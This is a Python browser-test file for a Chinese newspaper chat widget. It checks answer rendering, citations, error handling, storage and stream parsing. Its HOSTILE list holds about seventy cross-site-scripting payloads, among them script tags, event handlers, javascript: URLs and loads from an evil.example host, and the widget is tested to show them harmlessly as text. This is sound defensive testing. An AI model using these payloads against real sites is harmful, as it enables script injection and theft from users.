"""What the widget does with answers, sources and trouble, in a real Chromium."""

from __future__ import annotations

import json
import random
import threading
from typing import Any

import pytest

from tests.browsing import wait_for
from tests.widget_kit import (
    STRICT,
    TRUSTED,
    Handler,
    HostPage,
    Reply,
    Stage,
    answer,
    ask,
    failing,
    focused,
    gated,
    host_html,
    no_answer,
    problem,
    raw,
    script_tag,
    source,
    stream_of,
    streaming,
    words,
)

pytestmark = pytest.mark.browser

CHAT = "document.querySelector('bulletin-chat')"
STATE = f"{CHAT}.state"


def test_an_answer_shows_printed_words_markers_and_sources(stage: Stage) -> None:
    stage.api.reply = streaming(answer(("甲十二条。", "乙三十一条。"), before="两期说法不同：\n"))
    page = stage.open()
    ask(page)
    assert page.locator(".text p").all_inner_texts() == [
        "两期说法不同：",
        "甲十二条。1",
        "乙三十一条。2",
    ]
    assert page.locator(".claim mark").all_inner_texts() == ["二条。", "十一条"]
    assert page.locator(".row").all_inner_texts() == [
        f"{n}\n《全市重点工程进展顺利之{n}》\n新城日报 · 第312期 · 2020年1月8日 · 要闻"
        f" · 文中日期：2020年1月{n}日"
        for n in (1, 2)
    ]
    assert page.locator(".marker").first.get_attribute("aria-label") == (
        "来源 1: 《全市重点工程进展顺利之1》, 2020年1月8日"
    )
    assert page.evaluate(STATE) == "answered"


def test_a_marker_leads_to_its_card_and_back(stage: Stage) -> None:
    page = stage.open()
    ask(page)
    marker = page.locator(".marker")
    marker.focus()
    page.keyboard.press("Enter")
    assert focused(page) == "button.row"
    assert marker.get_attribute("aria-expanded") == "true"
    assert page.locator(".row").get_attribute("aria-expanded") == "true"
    assert page.locator("blockquote").inner_text() == "全年新开通公交线路12条，优化调整31条。"
    assert page.locator("blockquote mark").inner_text() == "新开通"
    page.keyboard.press("Tab")
    link = page.locator(".source a")
    assert focused(page) == "a"
    assert link.get_attribute("href") == (
        f"{stage.api.url}/articles/2020-01/a01?mark=0-21#p01:~:text=%E5%85%A8%E5%B9%B4"
    )
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"
    assert words(link) == "阅读原文 （新标签页）"
    page.locator("text=返回回答").press("Enter")
    assert focused(page) == "button.marker"
    assert not page.locator(".source").is_visible()


def test_the_link_opens_the_article_and_the_conversation_waits(stage: Stage) -> None:
    stage.api.pages["/articles/2020-01/a01"] = HostPage(host_html("", body="<p id=p01>原文</p>"))
    page = stage.open('data-link-target="_self"')
    ask(page)
    page.locator(".marker").click()
    assert page.locator(".source a").inner_text() == "阅读原文"
    page.locator(".source a").click()
    page.locator("#p01").wait_for()
    assert page.url.startswith(f"{stage.api.url}/articles/2020-01/a01?mark=0-21")
    page.go_back()
    page.locator(".launcher").click()
    assert page.locator(".question p").inner_text() == "新开通了多少条公交线路？"
    del stage.api.pages["/articles/2020-01/a01"]


HERE = (
    '<article data-bulletin-passage="2020-01/a01/p01">'
    "全年新开通公交\n线路<b>12条</b>，优化调整31条。</article>"
)


@pytest.mark.parametrize("width", [1280, 375])
def test_a_source_on_this_very_page_is_shown_there(stage: Stage, width: int) -> None:
    body = f'<div style="height:4000px"></div>{HERE}<div style="height:4000px"></div>'
    page = stage.open(body=body, width=width)
    ask(page)
    page.locator(".marker").click()
    assert page.locator(".source a").inner_text() == "在本页查看"
    page.locator(".source a").click()
    wait_for(page, "document.activeElement.dataset.bulletinPassage")
    wait_for(
        page, "Math.abs(document.activeElement.getBoundingClientRect().top - innerHeight / 2) < 60"
    )
    marked = page.evaluate("String([...CSS.highlights.get('bulletin-quote')][0])")
    assert marked.replace("\n", "") == "全年新开通公交线路12条，优化调整31条。"
    assert page.url == f"{stage.host.url}/page"
    assert page.locator("dialog").is_visible() is (width == 1280)


def test_the_page_of_the_article_itself_is_recognised(stage: Stage) -> None:
    told = answer()
    told["citations"][0]["url"] = f"{stage.host.url}/page?mark=0-3#p01"
    stage.api.reply = streaming(told)
    page = stage.open(body="<p id='p01'>全年新开通公交线路12条，优化调整31条。</p>")
    ask(page)
    page.locator(".marker").click()
    page.locator(".source a").click()
    wait_for(page, "document.activeElement.id === 'p01'")


@pytest.mark.parametrize(
    ("days", "told"),
    [
        ({"issue_date": "2020-01-01"}, "2020年1月1日 · 要闻"),
        ({"date": None}, "2020年1月8日 · 要闻"),
        ({"issue_date": None}, "2020-01 · 要闻 · 文中日期：2020年1月1日"),
        ({"issue_date": None, "date": None}, "2020-01 · 要闻"),
    ],
)
def test_the_day_of_an_article_is_told_where_it_is_not_that_of_its_issue(
    stage: Stage, days: dict[str, str | None], told: str
) -> None:
    stage.api.reply = streaming(answer(sources=[source(1, **days)]))
    page = stage.open()
    ask(page)
    assert page.locator(".row .small").inner_text() == f"新城日报 · 第312期 · {told}"
    said = page.locator(".marker").get_attribute("aria-label")
    assert said == f"来源 1: 《全市重点工程进展顺利之1》, {told.partition(' ')[0]}"


def test_english_readers_are_told_that_a_quote_is_in_the_original(stage: Stage) -> None:
    stage.api.reply = streaming(answer(lang="en", before="The bulletin says: "))
    page = stage.open(lang="en")
    ask(page, "How many?")
    assert page.locator(".text").get_attribute("lang") == "en"
    assert page.locator(".claim").get_attribute("lang") == "zh-Hans"
    assert page.locator(".claim").inner_text() == "全年新开通公交线路12条，优化调整31条。1"
    page.locator(".marker").click()
    assert page.locator(".source .small").inner_text() == "In the original language"
    assert page.locator("blockquote").get_attribute("lang") == "zh-Hans"
    about = "no. 312 · January 8, 2020 · 要闻 · date in the article: January 1, 2020"
    assert about in page.locator(".row").inner_text()
    for printed in ("新城日报", "要闻"):
        assert page.locator(".row [lang=zh-Hans]", has_text=printed).inner_text() == printed
    assert page.locator(".row .small [lang]").count() == 2
    assert page.locator(".row .small[lang], .row span[lang]").count() == 0


def test_our_words_for_a_missing_headline_are_in_our_language(stage: Stage) -> None:
    stage.api.reply = streaming(answer(sources=[source(1, title=None)]))
    page = stage.open(lang="en")
    ask(page)
    name = page.locator(".row .name")
    assert (name.inner_text(), name.get_attribute("lang")) == ("(no headline)", None)
    stage.api.reply = streaming(no_answer())
    ask(page)
    links = page.locator(".closest a").all()
    assert [link.locator("[lang]").count() for link in links] == [1, 0]
    assert words(links[1]) == "(no headline) (new tab)"


def test_counts_and_dates_are_those_of_the_language(stage: Stage) -> None:
    page = stage.open(lang="en")
    ask(page)
    assert page.locator("[role=status]").inner_text().endswith("(Source 1) 1 source")
    stage.api.reply = streaming(answer(("甲乙丙。", "丁戊己。")))
    ask(page)
    assert "2 sources" in page.locator("[role=status]").inner_text()
    for length, said in ((998, "2 characters left"), (999, "1 character left")):
        page.locator("textarea").fill("x" * length)
        assert page.locator("#count").inner_text() == said


def test_no_answer_is_plain_and_offers_the_closest_passages(stage: Stage) -> None:
    stage.api.reply = streaming(no_answer())
    page = stage.open()
    ask(page)
    assert page.locator(".text").inner_text() == "刊物中没有找到这个问题的答案。"
    assert page.locator(".problem").count() == 0
    about, snippet = (page.locator(".closest p").nth(n).inner_text() for n in (0, 1))
    assert about == "新城日报 · 第312期 · 2020年1月8日 · 要闻 · 文中日期：2020年1月3日"
    assert snippet.startswith("全长18公里")
    links = page.locator(".closest a")
    assert words(links.nth(0)) == "城市绿道建成开放 （新标签页）"
    assert words(links.nth(1)) == "（无标题） （新标签页）"
    assert links.first.get_attribute("href") == f"{stage.api.url}/articles/2020-01/a03#p02"
    assert page.evaluate(STATE) == "no_answer"
    page.locator(".offers:visible button", has_text="绿道有多长").click()
    page.locator('.answer[aria-busy="false"]').nth(1).wait_for()
    assert stage.api.asked[1]["question"] == "绿道有多长？"


@pytest.mark.parametrize("status", ["partial", "chat"])
def test_the_other_outcomes_have_their_names(stage: Stage, status: str) -> None:
    told = answer(() if status == "chat" else ("甲。",), before="您好。", status=status)
    stage.api.reply = streaming(told)
    page = stage.open()
    ask(page, "你好")
    assert page.evaluate(STATE) == status
    assert page.locator(".acts").count() == (0 if status == "chat" else 1)


def test_a_follow_up_sends_what_was_said_and_shows_how_it_was_read(stage: Stage) -> None:
    page = stage.open()
    ask(page, "第一问")
    reading = {"question": "第一问的后续是什么？", "carried": ["第一问"]}
    stage.api.reply = streaming(answer(reading=reading))
    ask(page, "后续呢？")
    assert stage.api.asked[1]["history"] == [
        {"role": "user", "text": "第一问"},
        {"role": "assistant", "text": answer()["text"]},
    ]
    assert page.locator(".answer > .small").inner_text() == "理解为：第一问的后续是什么？"


def test_no_more_is_sent_than_the_service_takes(stage: Stage) -> None:
    stage.api.config["limits"] |= {"history_turns": 4, "history_chars": 62}
    page = stage.open()
    wait_for(page, f"{CHAT}.shadowRoot.querySelector('.title').textContent === '问问新城日报'")
    for n in range(4):
        ask(page, f"第{n}问")
    assert [len(one["history"]) for one in stage.api.asked] == [0, 2, 4, 4]
    assert [turn["text"] for turn in stage.api.asked[3]["history"]][::2] == ["第1问", "第2问"]
    ask(page, "长" * 40)
    ask(page, "末问")
    assert stage.api.asked[5]["history"] == []
    assert {"answer-lang", "key", "system", "model"}.isdisjoint(stage.api.asked[5])


def test_the_request_holds_only_what_the_api_takes(stage: Stage) -> None:
    from api.http.schemas import ChatIn

    page = stage.open("""data-answer-lang="en" data-filters='{"from": "2020-01-01"}'""")
    ask(page)
    taken = ChatIn.model_validate(stage.api.asked[0])
    assert (taken.lang, taken.stream, str(taken.filters.from_)) == ("en", True, "2020-01-01")


def test_stop_keeps_what_was_said_and_the_draft(stage: Stage) -> None:
    gate = threading.Event()
    stage.api.reply = gated(answer(("甲" * 60 + "。",)), gate, before=4)
    page = stage.open()
    ask(page, wait=False)
    page.locator(".text:not(:empty)").wait_for()
    page.locator("textarea").fill("下一问的草稿")
    stop = page.locator(".send")
    assert stop.inner_text() == "停止回答"
    page.locator("textarea").press("Enter")
    assert len(stage.api.asked) == 1
    stop.click()
    page.locator("text=已停止").first.wait_for()
    gate.set()
    assert page.evaluate(STATE) == "stopped"
    assert page.locator(".text").inner_text().startswith("甲甲甲")
    assert page.locator("textarea").input_value() == "下一问的草稿"
    assert stop.inner_text() == "提问"
    stage.api.reply = streaming(answer())
    page.locator(".again").click()
    page.locator(".marker").wait_for()
    assert [one["question"] for one in stage.api.asked] == ["新开通了多少条公交线路？"] * 2
    assert page.locator(".question").count() == 1


def test_the_answer_grows_while_it_streams(stage: Stage) -> None:
    gate = threading.Event()
    stage.api.reply = gated(answer(("甲" * 30, "乙" * 30)), gate, before=6)
    page = stage.open()
    ask(page, wait=False)
    page.locator(".marker").wait_for()
    assert page.evaluate(STATE) == "streaming"
    assert page.locator(".marker").count() == 1
    assert page.locator(".row").count() == 0
    page.locator(".marker").focus()
    gate.set()
    page.locator(".row").nth(1).wait_for()
    assert focused(page) == "button.marker"


CASES: dict[str, tuple[Reply, str, str]] = {
    "timeout": (failing(504, problem(504, "timeout")), "timeout", "回答超时。"),
    "proxy": (failing(502, {}), "not_ready", "服务尚未就绪，请稍后再试。"),
    "not ready": (
        failing(503, problem(503, "index_not_ready", retry_after=2)), "not_ready",
        "服务尚未就绪，请稍后再试。",
    ),
    "forbidden": (
        failing(403, problem(403, "origin_not_allowed")), "forbidden", "无法在此页面提问。"
    ),
    "invalid": (failing(422, problem(422, "validation_failed")), "invalid", "请换一种问法。"),
    "server": (
        failing(500, problem(500, "internal")), "error",
        "服务出错了。 请求编号 req_7f3a 复制重试",
    ),
    "not json": (
        failing(500, {}, X_Request_ID="req_h"), "error", "服务出错了。 请求编号 req_h 复制重试"
    ),
    "cut": (raw(*stream_of(answer())[:4]), "cut", "回答中断了。"),
    "empty": (raw(), "cut", "回答中断了。"),
    "error event": (
        raw(
            stream_of(answer())[0],
            f"event: error\ndata: {json.dumps(problem(504, 'timeout'))}\n\n".encode(),
        ),
        "timeout", "回答超时。",
    ),
    "no answer object": (raw(b'event: done\ndata: {"answer": 5}\n\n'), "error", "服务出错了。"),
}  # fmt: skip


@pytest.mark.parametrize(("reply", "state", "said"), CASES.values(), ids=list(CASES))
def test_trouble_is_said_plainly_and_the_question_can_be_asked_again_once(
    stage: Stage, reply: Reply, state: str, said: str
) -> None:
    stage.api.reply = reply
    page = stage.open()
    ask(page)
    shown = words(page.locator(".problem"))
    assert shown.startswith(said)
    assert page.locator("[role=alert]").inner_text() == said.split(" ")[0]
    assert page.evaluate(STATE) == state
    stage.api.reply = streaming(answer())
    page.locator("text=重试").evaluate("e => { e.click(); e.click(); }")
    page.locator(".marker").wait_for()
    assert [one["question"] for one in stage.api.asked] == ["新开通了多少条公交线路？"] * 2
    assert stage.api.asked[1]["history"] == []
    assert page.locator(".problem").count() == 0
    if state == "forbidden":
        assert any("allowed origins" in line for line in stage.said)


def test_too_many_questions_count_down_and_let_one_ask_again(stage: Stage) -> None:
    stage.api.reply = failing(429, problem(429, "rate_limited"), Retry_After="12")
    page = stage.show()
    page.clock.install()
    page.locator(".launcher").click()
    ask(page)
    assert page.locator(".problem p").inner_text() == "当前提问较多，请等待 12 秒。"
    assert page.evaluate(STATE) == "rate_limited"
    again, send = page.locator(".again"), page.locator(".send")
    assert again.is_disabled()
    assert send.is_disabled()
    page.locator("textarea").fill("草稿")
    page.locator("textarea").press("Enter")
    page.clock.run_for(3000)
    assert page.locator(".problem p").inner_text() == "当前提问较多，请等待 9 秒。"
    page.clock.run_for(10000)
    assert page.locator(".problem p").inner_text() == "现在可以再次提问。"
    assert again.is_enabled()
    assert send.is_enabled()
    assert len(stage.api.asked) == 1
    stage.api.reply = streaming(answer())
    again.click()
    page.locator(".marker").wait_for()
    assert page.locator("textarea").input_value() == "草稿"


def test_offline_keeps_the_question(stage: Stage) -> None:
    page = stage.open()
    assert not page.locator(".offline").is_visible()
    page.context.set_offline(True)
    page.locator(".offline").wait_for()
    ask(page)
    assert page.evaluate(STATE) == "offline"
    assert page.locator(".problem").inner_text().startswith("无法连接，您的问题已保留。")
    page.context.set_offline(False)
    page.locator(".offline").wait_for(state="hidden")
    page.locator(".again").click()
    page.locator(".marker").wait_for()


def test_a_page_that_the_service_does_not_answer_is_named_to_its_owner_only(stage: Stage) -> None:
    stage.api.is_blind = True
    page = stage.open()
    ask(page)
    assert words(page.locator(".problem")) == "无法连接，您的问题已保留。 重试"
    assert any(stage.host.url in line and "allowed origins" in line for line in stage.said)


def test_a_stream_that_falls_silent_times_out(stage: Stage) -> None:
    gate = threading.Event()
    stage.api.reply = gated(answer(), gate, before=4)
    page = stage.show()
    page.clock.install()
    page.locator(".launcher").click()
    ask(page, wait=False)
    page.locator(".text:not(:empty)").wait_for()
    page.clock.run_for(20000)  # the clock also runs by itself
    assert page.evaluate(STATE) == "streaming"
    page.clock.run_for(11000)
    page.locator(".problem").wait_for()
    assert page.evaluate(STATE) == "timeout"
    gate.set()


def test_searching_is_told_only_when_it_takes_a_while(stage: Stage) -> None:
    gate = threading.Event()
    stage.api.reply = gated(answer(), gate, before=1)
    page = stage.show()
    page.clock.install()
    page.locator(".launcher").click()
    ask(page, wait=False)
    page.locator(".wait").wait_for()
    page.clock.run_for(200)
    assert page.locator("[role=status]").inner_text() == ""
    page.clock.run_for(550)
    assert page.locator("[role=status]").inner_text() == "正在查找…"
    page.clock.run_for(1000)
    assert page.locator("[role=status]").inner_text() == ""
    gate.set()


def test_copy_gives_the_answer_with_its_sources(stage: Stage) -> None:
    page = stage.open(permissions=["clipboard-read", "clipboard-write"])
    ask(page)
    page.locator(".acts button", has_text="复制回答").click()
    page.locator("text=已复制").first.wait_for()
    line = (
        "《全市重点工程进展顺利之1》 新城日报 · 第312期 · 2020年1月8日 · 要闻"
        " · 文中日期：2020年1月1日 "
        f"{stage.api.url}/articles/2020-01/a01?mark=0-21#p01"
    )
    text = "全年新开通公交线路12条，优化调整31条。"
    read = "navigator.clipboard.readText()"
    assert page.evaluate(read) == f"{text}[1]\n\n来源\n[1] {line}"
    page.locator(".marker").click()
    page.locator("text=复制引文").click()
    wait_for(page, f"{read}.then(t => !t.includes('[1]'))")
    assert page.evaluate(read) == f"{text} — {line}"


def test_copy_works_where_the_browser_gives_no_clipboard(stage: Stage) -> None:
    page = stage.open(
        init="delete Navigator.prototype.clipboard",
        permissions=["clipboard-read", "clipboard-write"],
        width=375,
        body="<input id='paste'>",
    )
    ask(page)
    copy = page.locator(".acts button", has_text="复制回答")
    copy.focus()
    page.keyboard.press("Enter")
    page.locator("text=已复制").first.wait_for()
    assert focused(page) == "button"
    page.locator(".title").press("Escape")
    page.locator("#paste").focus()
    page.keyboard.press("Control+v")
    assert page.locator("#paste").input_value().startswith("全年新开通")


def test_a_judgment_is_sent_once_and_shown(stage: Stage) -> None:
    page = stage.open()
    ask(page)
    up = page.locator('[aria-label="有帮助"]')
    up.click()
    up.click()
    page.locator("[role=status] p", has_text="谢谢").wait_for()
    assert stage.api.judged == [{"answer_id": "ans_1", "value": "up"}]
    assert up.get_attribute("aria-pressed") == "true"
    page.locator('[aria-label="没有帮助"]').click()
    page.wait_for_timeout(50)
    assert up.get_attribute("aria-pressed") == "false"
    assert stage.api.judged[1]["value"] == "down"


def test_the_conversation_and_the_draft_survive_reloading(stage: Stage) -> None:
    page = stage.open()
    ask(page, "第一问")
    page.locator("textarea").fill("没写完")
    page.reload()
    page.locator(".launcher").click()
    assert page.locator(".question p").all_inner_texts() == ["第一问"]
    assert page.locator(".marker").count() == 1
    assert page.locator("textarea").input_value() == "没写完"
    kept = page.evaluate("Object.keys(sessionStorage)")
    assert kept == [f"bulletin:v1:{stage.api.url}"]
    page.locator('[aria-label="清空对话"]').click()
    page.locator("textarea").fill("")
    assert page.evaluate("sessionStorage.length") == 0
    assert page.locator(".question").count() == 0
    assert page.locator(".intro").is_visible()


def test_a_question_under_way_when_the_page_left_can_be_asked_again(stage: Stage) -> None:
    gate = threading.Event()
    stage.api.reply = gated(answer(), gate, before=2)
    page = stage.open()
    ask(page, "第一问", wait=False)
    page.locator(".wait").wait_for()
    page.reload()
    gate.set()
    page.locator(".launcher").click()
    assert words(page.locator(".problem")) == "回答中断了。 重试"
    stage.api.reply = streaming(answer())
    page.locator(".again").click()
    page.locator(".marker").wait_for()


@pytest.mark.parametrize(
    ("persist", "where"), [("local", "localStorage"), ("none", "")], ids=["local", "none"]
)
def test_the_host_decides_where_it_is_kept(stage: Stage, persist: str, where: str) -> None:
    page = stage.open(f'data-persist="{persist}" data-site="报"')
    ask(page)
    page.locator("textarea").fill("x")
    kept = page.evaluate("[Object.keys(localStorage), Object.keys(sessionStorage)]")
    assert kept == [["bulletin:v1:报"] if where else [], []]


@pytest.mark.parametrize(
    "kept",
    [
        "{",
        '{"v": 2, "turns": []}',
        '{"v": 1, "turns": 5}',
        '{"v": 1, "turns": [null, 3, {}]}',
        '{"v": 1, "turns": [{"question": 5, "answer": {"text": "x", "citations": [7, {}]}}]}',
    ],
)
def test_what_is_kept_and_makes_no_sense_is_passed_over(stage: Stage, kept: str) -> None:
    init = f"sessionStorage.setItem('bulletin:v1:{stage.api.url}', {json.dumps(kept)})"
    page = stage.open(init=init)
    ask(page)
    assert page.locator(".marker").count() >= 1


def test_a_stream_is_read_however_it_is_cut(stage: Stage) -> None:
    """Cut anywhere, with every line end, comments and unknown fields, it gives the same events."""
    told = answer(("𠮷野家12条😀。", "乙三十一。"), before="说法：\n")
    wire = b"".join(stream_of(told)).decode()
    shapes = [
        wire,
        wire.replace("\n", "\r\n"),
        wire.replace("\n", "\r"),
        "\ufeff" + wire,
        wire.replace("event: ", ": ping\n\n\nretry: 10\nid\nevent:").replace("data: ", "data:"),
        wire.replace(
            "event: done", "event: unheard\ndata: {}\n\nevent: broken\ndata: {\n\nevent: done"
        ),
        wire.rstrip("\n"),
        wire.replace('{"type": "done", ', '{"type": "done",\ndata: '),
    ]
    dice = random.Random(5)
    cases: list[list[list[int]]] = []
    for shape in shapes:
        for _ in range(6):
            data, parts = list(shape.encode()), []
            longest = dice.choice([1, 2, 3, 7, 50, 4000])
            while data:
                n = dice.randint(1, longest)
                parts.append(data[:n])
                data = data[n:]
            cases.append(parts)
    page = stage.show()
    heard: list[list[Any]] = page.evaluate(
        """async ([url, cases]) => {
          const { createParser } = await import(url);
          return cases.map((parts) => {
            const events = [];
            const parser = createParser((name, data) => events.push([name, data]));
            parts.forEach((part) => parser.feed(new Uint8Array(part)));
            parser.end();
            return events;
          });
        }""",
        [f"{stage.api.url}/src/sse.js", cases],
    )
    for events in heard:
        known = [(name, data) for name, data in events if name not in ("unheard", "message")]
        assert "".join(data["text"] for name, data in known if name == "delta") == told["text"]
        assert known[-1] == ("done", {"type": "done", "answer": told})
        assert [name for name, _ in known].count("citation") == 2


def test_characters_outside_the_basic_plane_do_not_shift_the_markers(stage: Stage) -> None:
    stage.api.reply = streaming(answer(("𠮷𠮷十二条😀。",)))
    page = stage.open()
    ask(page)
    assert page.locator(".text").inner_text() == "𠮷𠮷十二条😀。1"
    assert page.locator(".claim mark").inner_text() == "十二条"


def test_an_answer_that_is_not_streamed_is_cut_but_told(stage: Stage) -> None:
    def reply(handler: Handler, _: dict[str, Any]) -> None:
        handler.send(200, b"<html>a proxy's page</html>", "text/html")

    stage.api.reply = reply
    page = stage.open()
    ask(page)
    assert page.evaluate(STATE) == "cut"


HOSTILE = [
    "<script>pwned('a')</script>",
    "<ScRiPt>pwned('b')</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=pwned('c')>",
    "<img src=x onerror\n=\npwned('d')>",
    "<svg onload=pwned('e')>",
    "<svg><script>pwned('f')</script></svg>",
    "<svg><animate onbegin=pwned('g') attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(1)>#x'/></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned('h')>",
    "<iframe src=javascript:pwned('i')>",
    "<iframe srcdoc='<script>parent.pwned(1)</script>'>",
    "<object data=javascript:pwned('j')>",
    "<embed src=javascript:pwned('k')>",
    "<form action=javascript:pwned('l')><button>x</button></form>",
    "<input autofocus onfocus=pwned('m')>",
    "<select autofocus onfocus=pwned('n')>",
    "<details open ontoggle=pwned('o')>",
    "<video><source onerror=pwned('p')></video>",
    "<audio src=x onerror=pwned('q')>",
    "<body onload=pwned('r')>",
    "<marquee onstart=pwned('s')>",
    "<a href=javascript:pwned('t')>x</a>",
    "<a href='jav&#x09;ascript:pwned(1)'>x</a>",
    "<style>@import 'javascript:pwned(1)'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<base href=//evil.example/>",
    "<template><script>pwned('u')</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "'><script>pwned('v')</script>",
    '"><img src=x onerror=pwned(2)>',
    "`${pwned('w')}`",
    "{{constructor.constructor('pwned(1)')()}}",
    "${pwned('x')}",
    "<!--<img src='--><img src=x onerror=pwned(3)>'>",
    "<![CDATA[<script>pwned('y')</script>]]>",
    "</textarea><script>pwned('z')</script>",
    "</p><script>pwned('aa')</script>",
    "</script><script>pwned('bb')</script>",
    "&lt;script&gt;pwned('cc')&lt;/script&gt;",
    "&#60;img src=x onerror=pwned(4)&#62;",
    "\\u003cscript\\u003epwned('dd')\\u003c/script\\u003e",
    "[x](javascript:pwned('ee'))",
    "![x](x' onerror='pwned(5)')",
    "<b><i><u>粗体</b></i></u>",
    "{title}{n}{q}$&$1$`",
    "\u202e倒着写\u202c\u2066隔离\u2069",
    "\u200b\u200c\u200d\ufeff零宽\u00ad",
    "长" * 10_000,
    "x" * 10_000,
    "اختبار النص العربي",
    "a\u0300\u0301\u0302\u0303" * 200,
    "\x01\x02\x08\x1b[31m",
    "]]>\r\n\r\ndata: {}\n\nevent: done\n\n",
    "javascript:pwned('ff')",
    " javascript:pwned('gg')",
    "java\nscript:pwned('hh')",
    "JaVaScRiPt:pwned('ii')",
    "data:text/html,<script>pwned('jj')</script>",
    "vbscript:pwned(6)",
    "blob:https://x/1",
    "file:///etc/passwd",
    "//evil.example/%0Ajavascript:pwned(7)",
    "https://evil.example/\" onclick=\"pwned(8)",
    "http://[::1",
    "\\\\evil.example\\x",
    "mailto:a@b.example?body=<script>pwned('kk')</script>",
]  # fmt: skip


def test_no_text_of_the_service_ever_runs_or_breaks_the_panel(stage: Stage) -> None:
    """Each string in question, headline, quote, address, passage and suggestion."""
    assert len(HOSTILE) >= 60
    nothing = {"question": "", "answer": {}, "state": "failed"}
    turns: list[dict[str, Any]] = []
    for text in HOSTILE:
        told = answer((text,), before=text, reading={"question": text}, follow_ups=[text])
        told["sources"] = [
            source(1, title=text, publication=text, number=text, section=text, url=text)
        ]
        told["citations"][0] |= {"url": text, "url_fragment": text, "quote_lang": text}
        told["no_answer"] = {
            "closest": [{**source(1), "title": text, "snippet": text, "url": text}]
        }
        turns.append({"question": text, "state": "done", "answer": told})
        trouble = {"code": text[:40], "requestId": text}
        turns.append({**nothing, "question": text, "answer": told, "problem": trouble})
    kept = json.dumps(json.dumps({"v": 1, "turns": turns, "draft": "</textarea>"}))
    init = (
        "window.ran = []; window.pwned = (x) => ran.push(x);"
        "window.violations = []; document.addEventListener('securitypolicyviolation',"
        " (e) => violations.push(e.violatedDirective));"
        f"sessionStorage.setItem('bulletin:v1:{stage.api.url}', {kept})"
    )
    policy = STRICT.format(api=stage.api.url) + TRUSTED
    page = stage.show(
        html=host_html(script_tag(stage.api.url)),
        headers={"Content-Security-Policy": policy},
        init=init,
        width=375,
    )
    page.locator(".launcher").click()
    assert page.locator(".question").count() == 2 * len(HOSTILE)
    page.locator(".row").evaluate_all("rows => rows.forEach((row) => row.click())")
    assert page.locator(".source:visible").count() == len(HOSTILE)
    held = page.locator(".transcript").evaluate(
        """e => ({
          tags: [...new Set([...e.querySelectorAll("*")].map((n) => n.localName))].sort(),
          attributes: [...e.querySelectorAll("*")].flatMap((n) => n.getAttributeNames()),
          links: [...e.querySelectorAll("a")].map((a) => a.protocol),
          wide: e.scrollWidth - e.clientWidth,
        })"""
    )
    assert held["tags"] == [
        "a", "article", "bdi", "blockquote", "button", "div", "h3", "h4", "li", "mark", "ol", "p",
        "path", "section", "span", "svg", "ul",
    ]  # fmt: skip
    assert [name for name in held["attributes"] if name.startswith("on") or name == "style"] == []
    assert set(held["links"]) <= {"http:", "https:"}
    assert held["wide"] == 0
    page.locator(".source a").evaluate_all(
        """all => all.forEach((a) => {
          a.target = "_self";
          a.addEventListener("click", (e) => e.preventDefault());
          a.click();
        })"""
    )
    page.wait_for_timeout(100)
    assert page.evaluate("[ran, violations]") == [[], []]
    shown = page.locator(".question p").evaluate_all("all => all.map((p) => p.textContent)")
    assert shown[::2] == HOSTILE
    assert not any("evil.example" in url for url in stage.urls)


def test_a_hostile_question_comes_back_as_text(stage: Stage) -> None:
    page = stage.open()
    ask(page, "<img src=x onerror=alert(1)>")
    assert page.locator(".question p").inner_text() == "<img src=x onerror=alert(1)>"
    assert page.locator(".transcript img").count() == 0
